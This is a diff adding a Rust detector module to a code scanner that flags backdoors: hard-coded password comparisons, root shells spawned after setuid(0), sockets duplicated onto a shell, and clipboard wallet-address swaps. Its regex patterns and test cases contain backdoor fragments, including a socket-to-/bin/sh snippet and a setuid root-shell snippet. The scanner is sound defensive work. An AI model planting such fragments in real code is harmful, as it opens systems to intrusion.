@@ -1,0 +1,267 @@
+//! Ways in that the product's own checks do not guard: a password that always works, a shell given to who
+//! knows a word, a shell tied to a socket, an address swapped for another.
+//!
+//! A comparison with a literal is looked at where the other side is named like a password. What is compared
+//! with nothing, with a placeholder or with a word of the field's own name is form handling.
+
+use std::sync::LazyLock;
+
+use regex::bytes::Regex;
+
+use super::Check;
+use super::Report;
+use super::Subject;
+use crate::model::scan::Confidence;
+use crate::model::scan::Severity;
+use crate::scan::draft::Draft;
+
+pub const CHECK: Check = Check {
+    rules: &["hard-coded-password", "root-shell", "socket-shell", "wallet-swap"],
+    about: "A password, a word or a connection that opens the product without its own checks.",
+    run,
+};
+
+const SECRET: &str = r"\w*(?:password|passwd|passphrase|pwd|pincode|passcode|masterkey|secretkey)\w*";
+
+static COMPARED: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    let literal = r#"(?:@|L|b|u)?["']([^"'\n]{4,80})["']"#;
+    Regex::new(&format!(
+        concat!(
+            r#"(?i-u)(?:[$@]|\b){s}(?:\(\))?\s*(?:===?|-eq|-ceq|\beq\b)\s*{l}"#,
+            r#"|{l}\s*(?:===?)\s*(?:[$@]|\b){s}"#,
+            r#"|\b{s}(?:\(\))?\.(?:equals|equalsIgnoreCase|compareTo|Equals)\(\s*{l}"#,
+            r#"|{l}\.(?:equals|Equals)\(\s*{s}"#,
+            r#"|\bstr(?:n|case)?cmp\(\s*(?:\w+(?:->|\.))?{s}\s*,\s*{l}[^)\n]*\)\s*(?:==\s*0|\)|&&)"#,
+            r#"|!\s*str(?:n|case)?cmp\(\s*(?:\w+(?:->|\.))?{s}\s*,\s*{l}"#
+        ),
+        s = SECRET,
+        l = literal
+    ))
+    .ok()
+});
+
+static ROOT: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r#"(?-u)\bset(?:re|res|e)?uid\s*\(\s*0\b[^\n]*\n(?:[^\n]*\n){0,6}?[^\n]*\b(?:exec[lv]p?e?|system|popen)\s*\(\s*"[^"\n]{0,20}(?:\bsh|bash|ksh|zsh)\b"#).ok()
+});
+
+static DUPLICATED: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?-u)\bdup2\s*\([^)\n]{1,80}(?:fileno|sock|fd|conn|client|\bs\b)").ok());
+
+static SHELL: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r#"(?-u)["'](?:/usr)?/bin/(?:ba|da|z|k)?sh["']|["']cmd\.exe["']"#).ok());
+
+static CONNECTS: LazyLock<Option<Regex>> =
+    LazyLock::new(|| Regex::new(r"(?-u)\bconnect\s*\(|\baccept\s*\(|TCPSocket|create_connection").ok());
+
+/// Bitcoin addresses as patterns are written, with a class of base-58 letters.
+static WALLET: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?-u)(?:bc1|\[13\]|0x\[a-fA-F0-9\]\{40\})[^\n]{0,40}(?:a-km-zA-HJ-NP-Z|a-zA-HJ-NP-Z0-9|A-HJ-NP-Za-km-z|\{40\})").ok()
+});
+
+static PASTES: LazyLock<Option<Regex>> = LazyLock::new(|| {
+    Regex::new(r"(?i-u)clipboard\w*\.(?:write\w*|copy|set\w*)\s*\(|SetClipboardData|set-clipboard|pyperclip\.copy|clipboard\.WriteAll|setPrimaryClip").ok()
+});
+
+/// What is no password although it stands where one would.
+const PLACEHOLDERS: &[&str] = &[
+    "password",
+    "passwd",
+    "secret",
+    "none",
+    "null",
+    "undefined",
+    "changeme",
+    "change_me",
+    "redacted",
+    "hidden",
+    "string",
+    "text",
+    "true",
+    "false",
+    "example",
+    "required",
+    "invalid",
+    "unknown",
+    "default",
+    "empty",
+    "test",
+    "user",
+    "username",
+    "basic",
+    "plain",
+    "prompt",
+    "stdin",
+    "keyring",
+    "login",
+];
+
+fn run(subject: &Subject, report: &mut Report) {
+    if !subject.classified.code {
+        return;
+    }
+    password(subject, report);
+    root_shell(subject, report);
+    socket_shell(subject, report);
+    wallet(subject, report);
+}
+
+fn password(subject: &Subject, report: &mut Report) {
+    let bytes = subject.bytes();
+    let Some(pattern) = COMPARED.as_ref() else { return };
+    for captures in pattern.captures_iter(bytes).take(50) {
+        let (Some(whole), Some(literal)) = (captures.get(0), captures.iter().skip(1).flatten().next()) else {
+            continue;
+        };
+        if subject.in_comment(whole.start())
+            || crate::scan::syntax::kind_at(subject.spans, whole.start())
+                .is_some_and(|span| span.range.start < whole.start())
+        {
+            continue;
+        }
+        let text = String::from_utf8_lossy(literal.as_bytes()).to_ascii_lowercase();
+        let placeholder = PLACEHOLDERS.contains(&text.trim_matches(['*', '<', '>', '-', '_', ' ', '[', ']']))
+            || text.bytes().all(|b| b == b'*' || b == b'x' || b == b'.' || b == b' ')
+            || text.contains(' ') && text.len() > 20
+            || text.contains("password")
+            || text.contains("://")
+            || text.starts_with(['$', '{', '%']);
+        if placeholder {
+            continue;
+        }
+        let after = bytes.get(whole.end()..(whole.end() + 200).min(bytes.len())).unwrap_or_default();
+        let after = String::from_utf8_lossy(after).to_ascii_lowercase();
+        let grants =
+            ["return true", "return 1", "true", "admin", "grant", "ok", "success", "allow", "login", "auth"]
+                .iter()
+                .any(|word| after.contains(word));
+        report.drafts.push(Draft {
+            rule: "hard-coded-password",
+            category: "trap.backdoor",
+            severity: if grants { Severity::High } else { Severity::Medium },
+            confidence: Confidence::Medium,
+            start: whole.start(),
+            end: whole.end(),
+            message:
+                "a password is compared with one written in the program: whoever knows it gets past the check"
+                    .to_owned(),
+            question: "Who knows this password, and what does it open?",
+            key: String::new(),
+        });
+    }
+}
+
+fn root_shell(subject: &Subject, report: &mut Report) {
+    if memchr::memmem::find(subject.bytes(), b"uid").is_none() {
+        return;
+    }
+    let Some(place) = ROOT.as_ref().and_then(|pattern| pattern.find(subject.bytes())) else { return };
+    if !subject.in_comment(place.start()) {
+        report.drafts.push(Draft {
+            rule: "root-shell",
+            category: "trap.backdoor",
+            severity: Severity::High,
+            confidence: Confidence::Medium,
+            start: place.start(),
+            end: place.end(),
+            message: "the program makes itself root and starts a shell".to_owned(),
+            question: "Who may get this shell, and how is that checked?",
+            key: String::new(),
+        });
+    }
+}
+
+fn socket_shell(subject: &Subject, report: &mut Report) {
+    let bytes = subject.bytes();
+    if memchr::memmem::find(bytes, b"dup2").is_none() {
+        return;
+    }
+    let (Some(duplicated), Some(shell), Some(connects)) =
+        (DUPLICATED.as_ref(), SHELL.as_ref(), CONNECTS.as_ref())
+    else {
+        return;
+    };
+    let Some(place) = duplicated.find(bytes).filter(|_| shell.is_match(bytes) && connects.is_match(bytes))
+    else {
+        return;
+    };
+    if !subject.in_comment(place.start()) {
+        report.drafts.push(Draft {
+            rule: "socket-shell",
+            category: "trap.backdoor",
+            severity: Severity::High,
+            confidence: Confidence::Medium,
+            start: place.start(),
+            end: place.end(),
+            message: "a connection becomes the input and output of a shell".to_owned(),
+            question: "Who is meant to be at the other end of this shell?",
+            key: String::new(),
+        });
+    }
+}
+
+fn wallet(subject: &Subject, report: &mut Report) {
+    let bytes = subject.bytes();
+    let Some(place) = WALLET.as_ref().and_then(|pattern| pattern.find(bytes)) else { return };
+    let Some(paste) = PASTES.as_ref().and_then(|pattern| pattern.find(bytes)) else { return };
+    if subject.in_comment(place.start()) || subject.in_comment(paste.start()) {
+        return;
+    }
+    report.drafts.push(Draft {
+        rule: "wallet-swap",
+        category: "trap.backdoor",
+        severity: Severity::High,
+        confidence: Confidence::Medium,
+        start: paste.start(),
+        end: paste.end(),
+        message: "the program looks for wallet addresses and writes to the clipboard: it can replace the one that was copied"
+            .to_owned(),
+        question: "What is written to the clipboard, and why does the program recognise wallet addresses?",
+        key: String::new(),
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests::found;
+
+    #[test]
+    fn ways_in_are_found() {
+        let cases = [
+            ("a.py", "if password == 'zq!Tr4pd00r':\n    return True\n", "hard-coded-password"),
+            ("a.cpp", "if (user == \"f\" && password == \"4c7!hbq0\") return true;\n", "hard-coded-password"),
+            (
+                "A.java",
+                "class A { boolean a(String p, String password) { return password.equals(\"Xk3-99-fb\"); } }\n",
+                "hard-coded-password",
+            ),
+            ("a.c", "if (strcmp(passwd, \"xyzzy42\") == 0) return 1;\n", "hard-coded-password"),
+            (
+                "a.c",
+                "int f(void) {\n  setuid(0);\n  setgid(0);\n  execl(\"/bin/sh\", \"sh\", 0);\n}\n",
+                "root-shell",
+            ),
+            ("a.py", "s.connect(('192.0.2.1', 4))\nos.dup2(s.fileno(), 0)\nf('/bin/sh')\n", "socket-shell"),
+        ];
+        for (name, text, rule) in cases {
+            assert!(
+                found(name, text).iter().any(|(seen, _)| *seen == rule),
+                "{text}: {:?}",
+                found(name, text)
+            );
+        }
+    }
+
+    #[test]
+    fn forms_and_placeholders_are_not() {
+        let cases = [
+            ("a.py", "if password == '':\n    return False\n"),
+            ("a.js", "if (input.type === 'password') show();\n"),
+            ("a.py", "if password == 'changeme':\n    warn()\n"),
+            ("a.py", "# if password == 'zq!Tr4pd00r':\n"),
+            ("a.c", "setuid(getuid());\nexecl(\"/bin/sh\", \"sh\", 0);\n"),
+        ];
+        for (name, text) in cases {
+            assert_eq!(found(name, text), [], "{text}");
+        }
+    }
+}
